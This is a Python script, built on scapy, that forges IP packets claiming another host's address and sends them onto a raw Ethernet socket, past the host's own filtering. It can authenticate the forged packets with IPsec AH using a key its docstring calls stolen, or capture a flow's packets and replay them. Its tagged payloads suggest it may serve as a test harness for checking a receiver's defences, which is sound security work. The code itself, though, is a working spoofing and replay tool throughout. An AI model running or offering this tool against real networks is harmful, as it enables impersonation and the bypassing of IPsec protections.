"""Sends packets that pretend to be somebody else's, straight onto a wire, past the host's own rules.

The one argument is a plan in JSON:
  interface, mac          where to, by Ethernet; the source address is the interface's own
  flow                    {"protocol": 6 or 17, "source", "sport", "destination", "dport"}
  ah                      null, or {"algorithm", "key", "spi", "sequence"}: a stolen key; numbers count up from sequence
  replay                  seconds to listen on the interface "listen" for the flow's packets, which are then sent again
  count, size, rate       packets (of a replay: times), payload bytes, packets a second
Payloads begin with a number from 2^31 on, so that whoever gets them can tell them from the flow's own.
Says "ready", starts when it reads a line, and says {"sent", "bytes", "first", "last"} at the end; times since 1970 in ms.
"""
import json
import socket
import sys
import time

from scapy.config import conf
from scapy.layers.inet import IP, TCP, UDP
from scapy.layers.inet6 import IPv6
from scapy.layers.ipsec import AH, SecurityAssociation
from scapy.layers.l2 import Ether
from scapy.packet import Raw
from scapy.sendrecv import sniff

ALGORITHMS = {
    "hmac-sha256-128": "SHA2-256-128",
    "hmac-sha384-192": "SHA2-384-192",
    "aes-cmac-96": "AES-CMAC-96",
    "hmac-sha1-96": "HMAC-SHA1-96",
}
ATTACK = 1 << 31


def forge(plan):
    flow, size = plan["flow"], plan["size"]
    ip = IPv6 if ":" in flow["source"] else IP
    ah = plan.get("ah")
    association = ah and SecurityAssociation(
        AH, spi=ah["spi"], auth_algo=ALGORITHMS[ah["algorithm"]], auth_key=bytes.fromhex(ah["key"]),
        seq_num=ah["sequence"])
    ports = dict(sport=flow["sport"], dport=flow["dport"])
    for number in range(plan["count"]):
        head = UDP(**ports) if flow["protocol"] == 17 else TCP(flags="A", **ports)
        payload = Raw((ATTACK + number).to_bytes(4, "big") + bytes(size - 4))
        packet = ip(src=flow["source"], dst=flow["destination"]) / head / payload
        packet = ip(bytes(packet))
        yield bytes(association.encrypt(packet) if association else packet)


def overhear(plan):
    flow = plan["flow"]
    wanted = f"src host {flow['source']} and dst host {flow['destination']}"
    heard = sniff(iface=plan["listen"], timeout=plan["replay"], filter=wanted,
                  lfilter=lambda p: AH in p or (UDP in p and p[UDP].dport == flow["dport"]))
    packets = [bytes(p[Ether].payload) for p in heard if Ether in p]
    for _ in range(plan["count"]):
        yield from packets


def main():
    plan = json.loads(sys.argv[1])
    conf.verb = 0
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((plan["interface"], 0))
    own = wire.getsockname()[4]
    to = bytes.fromhex(plan["mac"].replace(":", ""))
    if plan.get("replay") is None:
        packets = list(forge(plan))
    print("ready", flush=True)
    sys.stdin.readline()
    if plan.get("replay") is not None:
        packets = list(overhear(plan))
    first, total = time.time(), 0
    for number, packet in enumerate(packets):
        wait = first + number / plan["rate"] - time.time()
        if wait > 0.001:
            time.sleep(wait)
        wire.send(to + own + (b"\x86\xdd" if packet[0] >> 4 == 6 else b"\x08\x00") + packet)
        total += len(packet)
    print(json.dumps({"sent": len(packets), "bytes": total, "first": first * 1000, "last": time.time() * 1000}), flush=True)


main()
